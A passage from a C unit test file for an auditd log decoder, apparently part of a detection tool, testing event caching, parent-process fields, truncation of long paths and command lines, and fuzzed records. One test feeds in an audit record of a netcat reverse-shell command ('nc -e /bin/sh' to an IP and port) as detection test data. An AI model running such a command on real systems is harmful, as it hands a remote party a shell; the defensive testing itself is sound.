 * one set, which holds their two shares exactly): a record finds its
 * event exactly while it is among its agent's last AGENT_WAYS, whichever
 * way it took, and the same serial from another agent is another event.
 */
static void
test_cache_many(void **state)
{
	char agents[3][32];
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	char line[512];
	uint32_t rnd = 12345;

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	id_in_set(agents[0], sizeof(agents[0]), "a", 3);
	id_in_set(agents[1], sizeof(agents[1]), "b", 3);
	id_in_set(agents[2], sizeof(agents[2]), "c", 20);
	for (unsigned s = 1; s <= 3000; s++) {
		unsigned back, t;

		ctx.agent_id = agents[s % 3];
		line_fmt(line, sizeof(line), EV_SYSCALL, s);
		decode_str(line, &ctx, d);
		rnd = rnd * 1103515245u + 12345u;
		back = (rnd >> 16) % (3 * AGENT_WAYS + 12);
		if (back >= s)
			continue;
		t = s - back;
		ctx.agent_id = agents[t % 3];
		line_fmt(line, sizeof(line), EV_CWD, t);
		decode_str(line, &ctx, d);
		/* back / 3 newer events of t's agent */
		if (back / 3 < AGENT_WAYS)
			check_field("cached", d, "exe", "/usr/bin/bash");
		else
			check_absent("evicted", d, "exe");
		ctx.agent_id = agents[(t + 1) % 3];
		decode_str(line, &ctx, d);
		check_absent("other agent", d, "exe");
	}
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * Parent process fields: a login shell ("bash -i", pid 2211, its parent
 * sshd never seen exec) runs whoami (pid 2250, ppid 2211). The records of
 * both execve events as auditd writes them; the child's EXECVE record gets
 * the shell's exe and command line as ParentImage and ParentCommandLine.
 */
static const char *const shell_event[] = {
	"type=SYSCALL msg=audit(1795604400.100:5001): arch=c000003e syscall=59 success=yes exit=0 "
	    "a0=55c1d8a0c2a0 a1=55c1d8a0c310 a2=55c1d8a0c330 a3=8 items=2 ppid=2210 pid=2211 "
	    "auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 "
	    "fsgid=1000 tty=pts0 ses=4 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=(null)",
	"type=EXECVE msg=audit(1795604400.100:5001): argc=2 a0=\"bash\" a1=\"-i\"",
	"type=CWD msg=audit(1795604400.100:5001): cwd=\"/home/alice\"",
	"type=PATH msg=audit(1795604400.100:5001): item=0 name=\"/usr/bin/bash\" inode=1835028 "
	    "dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
	    "cap_fe=0 cap_fver=0 cap_frootid=0",
	"type=PATH msg=audit(1795604400.100:5001): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "
	    "inode=1836542 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL "
	    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
	"type=PROCTITLE msg=audit(1795604400.100:5001): proctitle=62617368002D69",
	"type=EOE msg=audit(1795604400.100:5001): ",
};

static const char *const child_event[] = {
	"type=SYSCALL msg=audit(1795604405.200:5002): arch=c000003e syscall=59 success=yes exit=0 "
	    "a0=55c1d8b1e0f0 a1=55c1d8b1e130 a2=55c1d8b1a6c0 a3=8 items=2 ppid=2211 pid=2250 "
	    "auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 "
	    "fsgid=1000 tty=pts0 ses=4 comm=\"whoami\" exe=\"/usr/bin/whoami\" subj=unconfined key=(null)",
	"type=EXECVE msg=audit(1795604405.200:5002): argc=1 a0=\"whoami\"",
	"type=CWD msg=audit(1795604405.200:5002): cwd=\"/home/alice\"",
	"type=PATH msg=audit(1795604405.200:5002): item=0 name=\"/usr/bin/whoami\" inode=1835301 "
	    "dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
	    "cap_fe=0 cap_fver=0 cap_frootid=0",
	"type=PATH msg=audit(1795604405.200:5002): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "
	    "inode=1836542 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL "
	    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
	"type=PROCTITLE msg=audit(1795604405.200:5002): proctitle=77686F616D69",
	"type=EOE msg=audit(1795604405.200:5002): ",
};

/* Decodes the records of one event; d is left with its EXECVE record's fields. */
static void
decode_event(const char *const *lines, size_t n, const struct decode_ctx *ctx, struct decoded *d,
    struct decoded *execve)
{
	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(lines[i]);
		char *buf = dup_exact(lines[i], len);

		decode_line(buf, len, ctx, d);
		check_event(lines[i], d, buf, len);
		if (d->category != NULL && strcmp(d->category, "process_creation") == 0) {
			/* values may be slices of buf: keep the copies the test reads */
			*execve = *d;
			for (unsigned f = 0; f < d->nfields; f++)
				if (!in_range(d->fields[f].value, d->scratch, d->scratch_used)) {
					char *c = decode_scratch(execve, d->fields[f].value.len + 1);
					assert_non_null(c);
					memcpy(c, d->fields[f].value.p, d->fields[f].value.len);
					execve->fields[f].value.p = c;
				} else {
					execve->fields[f].value.p = execve->scratch +
					    (d->fields[f].value.p - d->scratch);
				}
		}
		free(buf);
	}
}

/* A SYSCALL+EXECVE pair: pid execs exe with command line "exe-basename arg". */
static void
exec_pair(const struct decode_ctx *ctx, struct decoded *d, unsigned serial, unsigned ppid,
    unsigned pid, const char *exe, const char *arg, const char *success)
{
	char line[768];
	const char *base = strrchr(exe, '/') != NULL ? strrchr(exe, '/') + 1 : exe;

	assert_true(snprintf(line, sizeof(line), "type=SYSCALL msg=audit(1795604500.000:%u): "
	    "arch=c000003e syscall=59 success=%s exit=0 items=2 ppid=%u pid=%u auid=1000 uid=0 "
	    "comm=\"%s\" exe=\"%s\" key=(null)", serial, success, ppid, pid, base, exe) < (int)sizeof(line));
	decode_str(line, ctx, d);
	assert_true(snprintf(line, sizeof(line), "type=EXECVE msg=audit(1795604500.000:%u): "
	    "argc=2 a0=\"%s\" a1=\"%s\"", serial, base, arg) < (int)sizeof(line));
	decode_str(line, ctx, d);
	assert_string_equal(d->category, "process_creation");
}

static void
test_parent_fields(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS, .agent_id = "web1" };
	struct decoded *d = malloc(sizeof(*d)), *ex = malloc(sizeof(*d));

	(void)state;
	assert_non_null(d);
	assert_non_null(ex);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	decode_event(shell_event, MS_ARRAY_LEN(shell_event), &ctx, d, ex);
	check_field("shell", ex, "Image", "/usr/bin/bash");
	check_field("shell", ex, "CommandLine", "bash -i");
	/* sshd (2210) was started before anything was seen */
	check_absent("shell", ex, "ParentImage");
	check_absent("shell", ex, "ParentCommandLine");
	check_absent("shell", ex, "key");

	decode_event(child_event, MS_ARRAY_LEN(child_event), &ctx, d, ex);
	check_field("child", ex, "Image", "/usr/bin/whoami");
	check_field("child", ex, "CommandLine", "whoami");
	check_field("child", ex, "ParentImage", "/usr/bin/bash");
	check_field("child", ex, "ParentCommandLine", "bash -i");

	/* another agent's pid 2211 is another process */
	ctx.agent_id = "web2";
	decode_event(child_event, MS_ARRAY_LEN(child_event), &ctx, d, ex);
	check_field("other agent", ex, "Image", "/usr/bin/whoami");
	check_absent("other agent", ex, "ParentImage");
	ctx.agent_id = "web1";

	/* a failed exec leaves the process what it was */
	exec_pair(&ctx, d, 6001, 2210, 2211, "/nonexistent/java", "-jar", "no");
	check_absent("failed exec", d, "ParentImage");	/* 2210 is still unknown */
	exec_pair(&ctx, d, 6002, 2211, 2300, "/usr/bin/id", "-u", "yes");
	check_field("after failed exec", d, "ParentImage", "/usr/bin/bash");
	check_field("after failed exec", d, "ParentCommandLine", "bash -i");

	/* the shell execs java in place (same pid): its children see java */
	exec_pair(&ctx, d, 6003, 2210, 2211, "/usr/lib/jvm/bin/java", "-jar", "yes");
	exec_pair(&ctx, d, 6004, 2211, 2301, "/usr/bin/sh", "-c", "yes");
	check_field("exec in place", d, "ParentImage", "/usr/lib/jvm/bin/java");
	check_field("exec in place", d, "ParentCommandLine", "java -jar");
	/* and a grandchild sees sh */
	exec_pair(&ctx, d, 6005, 2301, 2302, "/usr/bin/curl", "x", "yes");
	check_field("grandchild", d, "ParentImage", "/usr/bin/sh");
	check_field("grandchild", d, "ParentCommandLine", "sh -c");

	/* hostile pids: no parent, nothing else harmed */
	decode_str("type=SYSCALL msg=audit(1795604500.000:7001): arch=c000003e syscall=59 "
	    "success=yes exit=0 ppid=99999999999999999999999 pid=-1 exe=\"/x\"", &ctx, d);
	decode_str("type=EXECVE msg=audit(1795604500.000:7001): argc=1 a0=\"x\"", &ctx, d);
	check_absent("hostile", d, "ParentImage");
	decode_str("type=SYSCALL msg=audit(1795604500.000:7002): arch=c000003e syscall=59 "
	    "success=yes exit=0 ppid=2301x pid=abc exe=\"/y\"", &ctx, d);
	decode_str("type=EXECVE msg=audit(1795604500.000:7002): argc=1 a0=\"y\"", &ctx, d);
	check_absent("hostile", d, "ParentImage");
	exec_pair(&ctx, d, 7003, 2301, 2303, "/usr/bin/true", "", "yes");
	check_field("after hostile", d, "ParentImage", "/usr/bin/sh");

	/* an EXECVE whose SYSCALL record was not seen: no parent */
	decode_str("type=EXECVE msg=audit(1795604500.000:7100): argc=1 a0=\"z\"", &ctx, d);
	check_absent("no syscall", d, "ParentImage");
	decode_auditd_cache_free(ctx.auditd);
	free(ex);
	free(d);
}

/*
 * One agent execs far more processes than the table holds: another
 * agent's shell is still known as a parent, and the flooder keeps its own
 * recent ones.
 */
static void
test_parent_flood(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS, .agent_id = "victim" };
	struct decoded *d = malloc(sizeof(*d));
	char flooder[32];

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	exec_pair(&ctx, d, 1, 1, 2211, "/usr/bin/bash", "-i", "yes");
	for (int k = 0; k < 2; k++) {
		/* a flooder in the victim's set of the event cache, and one in another set */
		id_in_set(flooder, sizeof(flooder), "noisy", (set_of("victim") + (unsigned)k) % SETS);
		ctx.agent_id = flooder;
		for (unsigned i = 0; i < 20000; i++)
			exec_pair(&ctx, d, 100 + i, 1, 3000 + i, "/usr/bin/true", "x", "yes");
		exec_pair(&ctx, d, 30000, 3000 + 19999, 90000, "/usr/bin/id", "y", "yes");
		check_field("flooder's own", d, "ParentImage", "/usr/bin/true");
		ctx.agent_id = "victim";
		exec_pair(&ctx, d, 2 + (unsigned)k, 2211, 2250 + (unsigned)k, "/usr/bin/whoami", "z", "yes");
		check_field("victim", d, "ParentImage", "/usr/bin/bash");
		check_field("victim", d, "ParentCommandLine", "bash -i");
	}
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * A path of exactly len bytes (len < cap): dir0, then directories of
 * eight 'a', then "/" base – an attacker's tool run from deep down.
 */
static void
deep_path(char *buf, size_t cap, size_t len, const char *dir0, const char *base)
{
	size_t w = strlen(dir0), bl = strlen(base);

	assert_true(len < cap && len > w + bl + 1);
	memcpy(buf, dir0, w);
	while (w < len - bl - 1)
		buf[w] = (w % 9 == 0) ? '/' : 'a', w++;
	buf[w++] = '/';
	memcpy(buf + w, base, bl);
	buf[len] = '\0';
}

/* Field name of d starts with head, ends with tail and is len bytes long. */
static void
check_ends(const char *what, const struct decoded *d, const char *name, const char *head,
    const char *tail, size_t len)
{
	const struct ms_str *v = field_exact(d, name);

	if (v == NULL) {
		dump_fields(d);
		fail_msg("%s: field %s missing", what, name);
	}
	if (!ms_str_startswith(*v, head) || v->len < strlen(tail) ||
	    memcmp(v->p + v->len - strlen(tail), tail, strlen(tail)) != 0 || v->len != len)
		fail_msg("%s: %s (%zu bytes, want %zu) = \"%.40s…%.*s\", want \"%s…%s\"", what, name,
		    v->len, len, v->p, 40, v->p + (v->len > 40 ? v->len - 40 : 0), head, tail);
}

/*
 * An exe path longer than the cache's slot (AU_CACHE_EXE, 512 bytes):
 * run from a directory 700 bytes deep, nc must still be Image|endswith
 * '/nc' on its EXECVE record (quoted and hex-encoded exe), and its
 * child's ParentImage/ParentCommandLine must still end as they do.
 */
static void
test_long_exe(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS, .agent_id = "web1" };
	struct decoded *d = malloc(sizeof(*d));
	char path[1024], hex[2048], line[4096];

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());

	/* quoted exe, 700 bytes */
	deep_path(path, sizeof(path), 700, "/tmp/", "nc");
	assert_true(snprintf(line, sizeof(line), "type=SYSCALL msg=audit(1795604600.000:8001): "
	    "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2211 pid=4001 auid=1000 "
	    "uid=1000 comm=\"nc\" exe=\"%s\" key=(null)", path) < (int)sizeof(line));
	decode_str(line, &ctx, d);
	check_field("syscall", d, "exe", path);	/* the record's own: whole */
	assert_true(snprintf(line, sizeof(line), "type=EXECVE msg=audit(1795604600.000:8001): "
	    "argc=5 a0=\"%s\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.1.2.3\" a4=\"4444\"", path) <
	    (int)sizeof(line));
	decode_str(line, &ctx, d);
	check_event("execve", d, line, strlen(line));
	check_ends("execve", d, "Image", "/tmp/aaaa", "aaa/nc", 512);
	check_ends("execve", d, "exe", "/tmp/aaaa", "aaa/nc", 512);
	check_ends("execve", d, "CommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 700 + 25);
	assert_true(d->values_cut);
	decode_str("type=CWD msg=audit(1795604600.000:8001): cwd=\"/tmp\"", &ctx, d);
	check_ends("cwd", d, "Image", "/tmp/aaaa", "aaa/nc", 512);
	check_ends("cwd", d, "CommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 700 + 25);
	assert_true(d->values_cut);
	/* its child: the parent's exe and command line end as they did */
	exec_pair(&ctx, d, 8002, 4001, 4002, "/usr/bin/sh", "-i", "yes");
	check_ends("child", d, "ParentImage", "/tmp/aaaa", "aaa/nc", 512);
	check_ends("child", d, "ParentCommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 512);
	assert_true(d->values_cut);
	/* its grandchild: nothing cut */
	exec_pair(&ctx, d, 8006, 4002, 4006, "/usr/bin/id", "-u", "yes");
	check_field("grandchild", d, "ParentImage", "/usr/bin/sh");
	assert_false(d->values_cut);

	/* hex-encoded exe (a space in the path), 700 bytes */
	deep_path(path, sizeof(path), 700, "/tmp/x y/", "socat");
	for (size_t i = 0; path[i] != '\0'; i++)
		snprintf(hex + 2 * i, 3, "%02X", (unsigned char)path[i]);
	assert_true(snprintf(line, sizeof(line), "type=SYSCALL msg=audit(1795604600.000:8003): "
	    "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2211 pid=4003 auid=1000 "
	    "uid=1000 comm=\"socat\" exe=%s key=(null)", hex) < (int)sizeof(line));
	decode_str(line, &ctx, d);
	check_field("hex syscall", d, "exe", path);
	decode_str("type=EXECVE msg=audit(1795604600.000:8003): argc=2 a0=\"socat\" a1=\"-\"", &ctx, d);
	check_ends("hex execve", d, "Image", "/tmp/x y/", "/socat", 512);

	/* exactly the slot: whole; one byte more: its first and last 256 bytes */
	deep_path(path, sizeof(path), 512, "/opt/", "nc");
	exec_pair(&ctx, d, 8004, 2211, 4004, path, "x", "yes");
	check_field("512", d, "Image", path);
	assert_false(d->values_cut);
	deep_path(path, sizeof(path), 513, "/opt/", "nc");
	exec_pair(&ctx, d, 8005, 2211, 4005, path, "x", "yes");
	check_ends("513", d, "Image", "/opt/aaaa", "aaa/nc", 512);
	assert_memory_equal(field_exact(d, "Image")->p, path, 256);
	assert_memory_equal(field_exact(d, "Image")->p + 256, path + 513 - 256, 256);
	assert_true(d->values_cut);
	/* the record after: the flag does not stay */
	decode_str("type=EOE msg=audit(1795604600.000:8099): ", &ctx, d);
	assert_false(d->values_cut);
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

/*
 * A forged EXECVE record whose arguments join to more than CommandLine's
 * cap (8,192 bytes; the kernel writes at most 7,500 to a record): its
 * first and last 4,096 bytes, split pieces glued as ever.
 */
static void
test_long_cmdline(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	size_t cap = 12000, w = 0;
	char *line = malloc(cap), *want = malloc(cap);
	size_t wl = 0;
	const struct ms_str *cl;

	(void)state;
	assert_non_null(d);
	assert_non_null(line);
	assert_non_null(want);
	w += (size_t)snprintf(line, cap, "type=EXECVE msg=audit(1795604400.123:1): argc=4 a0=\"sh\"");
	wl += (size_t)snprintf(want, cap, "sh");
	/* a1: 5,000 'x' in two pieces; a2: 5,000 'y'; a3: "tail" */
	w += (size_t)snprintf(line + w, cap - w, " a1_len=5000 a1[0]=\"");
	memset(line + w, 'x', 2500), w += 2500;
	w += (size_t)snprintf(line + w, cap - w, "\" a1[1]=\"");
	memset(line + w, 'x', 2500), w += 2500;
	w += (size_t)snprintf(line + w, cap - w, "\" a2=\"");
	memset(line + w, 'y', 5000), w += 5000;
	w += (size_t)snprintf(line + w, cap - w, "\" a3=\"tail\"");
	want[wl++] = ' ';
	memset(want + wl, 'x', 5000), wl += 5000;
	want[wl++] = ' ';
	memset(want + wl, 'y', 5000), wl += 5000;
	wl += (size_t)snprintf(want + wl, cap - wl, " tail");
	assert_true(w < cap && wl > 8192);
	decode_line(line, w, &ctx, d);
	check_event("long cmdline", d, line, w);
	assert_non_null(cl = field_exact(d, "CommandLine"));
	assert_int_equal(cl->len, 8192);
	assert_memory_equal(cl->p, want, 4096);
	assert_memory_equal(cl->p + 4096, want + wl - 4096, 4096);
	assert_true(d->values_cut);
	/* one byte under the cap with a split argument (total counts a separator too many): whole */
	w = (size_t)snprintf(line, cap, "type=EXECVE msg=audit(1795604400.123:2): argc=2 a0=\"s\" "
	    "a1_len=8190 a1[0]=\"");
	memset(line + w, 'z', 4095), w += 4095;
	w += (size_t)snprintf(line + w, cap - w, "\" a1[1]=\"");
	memset(line + w, 'z', 4095), w += 4095;
	line[w++] = '"';
	decode_line(line, w, &ctx, d);
	assert_non_null(cl = field_exact(d, "CommandLine"));
	assert_int_equal(cl->len, 8192);
	assert_memory_equal(cl->p, "s zzz", 5);
	assert_false(d->values_cut);
	free(want);
	free(line);
	free(d);
}

/* argc=100000 and 200 arguments: the field table stays bounded, CommandLine has them all. */
static void
test_huge_argc(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	char *line = malloc(8192);
	size_t w = 0;
	const struct ms_str *cl;

	(void)state;
	assert_non_null(d);
	assert_non_null(line);
	w += (size_t)snprintf(line, 8192, "type=EXECVE msg=audit(1795604400.123:1): argc=100000");
	for (unsigned i = 0; i < 200; i++)
		w += (size_t)snprintf(line + w, 8192 - w, " a%u=\"x%u\"", i, i % 10);
	assert_true(w < 8192);
	decode_line(line, w, &ctx, d);
	check_event("huge argc", d, line, w);
	assert_int_equal(d->nfields, DECODE_MAX_FIELDS - 12 + 1);
	check_field("huge argc", d, "argc", "100000");
	assert_non_null(cl = field_exact(d, "CommandLine"));
	/* only the arguments that made it into the table: a0..a48 */
	assert_true(ms_str_startswith(*cl, "x0 x1 x2 "));
	free(line);
	free(d);
}

/* 100 KiB of hex arguments: decoded on the capped prefix, scratch never overflows. */
static void
test_long_line(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));
	size_t cap = 100 * 1024, w = 0;
	char *line = malloc(cap);

	(void)state;
	assert_non_null(d);
	assert_non_null(line);
	w += (size_t)snprintf(line, cap, "type=EXECVE msg=audit(1795604400.123:1): argc=40");
	for (unsigned i = 0; w + 2600 < cap; i++) {
		w += (size_t)snprintf(line + w, cap - w, " a%u=", i);
		for (unsigned k = 0; k < 1250; k++) {
			line[w++] = '4';
			line[w++] = '1';
		}
	}
	decode_line(line, w, &ctx, d);
	check_event("long", d, line, w);
	assert_string_equal(d->service, "auditd");
	check_field("long", d, "argc", "40");
	assert_true(d->scratch_used <= DECODE_SCRATCH);
	/* the first arguments are decoded, the ones past the scratch stay hex */
	assert_int_equal(field_exact(d, "a0")->len, 1250);
	assert_int_equal(field_exact(d, "a20")->len, 2500);

	/* one value of 100 KiB: a PATH name */
	memcpy(line, "type=PATH msg=audit(1795604400.123:2): name=", 44);
	memset(line + 44, 'A', cap - 44);
	decode_line(line, cap, &ctx, d);
	check_event("long name", d, line, cap);
	assert_int_equal(field_exact(d, "name")->len, DECODE_MAX_LINE - 44);
	free(line);
	free(d);
}

/* A reused event keeps nothing of the audit record. */
static void
test_reuse(void **state)
{
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));

	(void)state;
	assert_non_null(d);
	decode_str("type=EXECVE msg=audit(1795604400.123:2): argc=1 a0=6964", &ctx, d);
	assert_string_equal(d->category, "process_creation");
	decode_str("hello", &ctx, d);
	assert_null(d->product);
	assert_null(d->category);
	assert_int_equal(d->nfields, 0);
	assert_int_equal(d->scratch_used, 0);
	assert_false(d->time_from_line);
	free(d);
}

/* Every prefix and every one-byte mutation of a record decodes within bounds. */
static void
test_mutations(void **state)
{
	static const char *const seeds[] = {
		"type=USER_CMD msg=audit(1795604400.123:4567): pid=2000 uid=1000 msg='cwd=\"/h\" cmd=6964 res=success'\x1dUID=\"root\"",
		"node=n type=EXECVE msg=audit(1795604400.123:4567): argc=2 a0=\"x\" a1[0]=4142 a1[1]=\"c\"",
		"[ 1.2] audit: type=1327 audit(1795604400.123:1): proctitle=6100620063",
	};
	static const char bytes[] = { '\0', '"', '\'', '=', ' ', '\x1d', 'A', '0', ':', ')', '[' };
	struct decode_ctx ctx = { .recv_ms = RECV_MS };
	struct decoded *d = malloc(sizeof(*d));

	(void)state;
	assert_non_null(d);
	assert_non_null(ctx.auditd = decode_auditd_cache_new());
	for (size_t s = 0; s < MS_ARRAY_LEN(seeds); s++) {
		size_t len = strlen(seeds[s]);
		for (size_t cut = 0; cut <= len; cut++) {
			char *buf = dup_exact(seeds[s], cut);
			decode_line(buf, cut, &ctx, d);
			check_event("prefix", d, buf, cut);
			free(buf);
		}
		for (size_t pos = 0; pos < len; pos++)
			for (size_t b = 0; b < sizeof(bytes); b++) {
				char *buf = dup_exact(seeds[s], len);
				buf[pos] = bytes[b];
				decode_line(buf, len, &ctx, d);
				check_event("mutation", d, buf, len);
				free(buf);
			}
	}
	decode_auditd_cache_free(ctx.auditd);
	free(d);
}

static const struct CMUnitTest single_tests[] = {
	cmocka_unit_test(test_cache_enriches),
	cmocka_unit_test(test_cache_no_overwrite),
	cmocka_unit_test(test_cache_evicts),
	cmocka_unit_test(test_cache_flood),
	cmocka_unit_test(test_cache_same_set),
	cmocka_unit_test(test_cache_many),
	cmocka_unit_test(test_parent_fields),
	cmocka_unit_test(test_parent_flood),
	cmocka_unit_test(test_long_exe),
	cmocka_unit_test(test_long_cmdline),
	cmocka_unit_test(test_huge_argc),
	cmocka_unit_test(test_long_line),
	cmocka_unit_test(test_reuse),
	cmocka_unit_test(test_mutations),
};

static struct CMUnitTest tests[MS_ARRAY_LEN(au_cases) + MS_ARRAY_LEN(single_tests)];

int
main(void)
{
	size_t n = 0;

	for (size_t i = 0; i < MS_ARRAY_LEN(au_cases); i++, n++) {
		tests[n].name = au_cases[i].name;
		tests[n].test_func = test_au_case;
		tests[n].initial_state = (void *)&au_cases[i];
	}
	for (size_t i = 0; i < MS_ARRAY_LEN(single_tests); i++)
		tests[n++] = single_tests[i];
	return cmocka_run_group_tests_name("decode_auditd", tests, NULL, NULL);
}
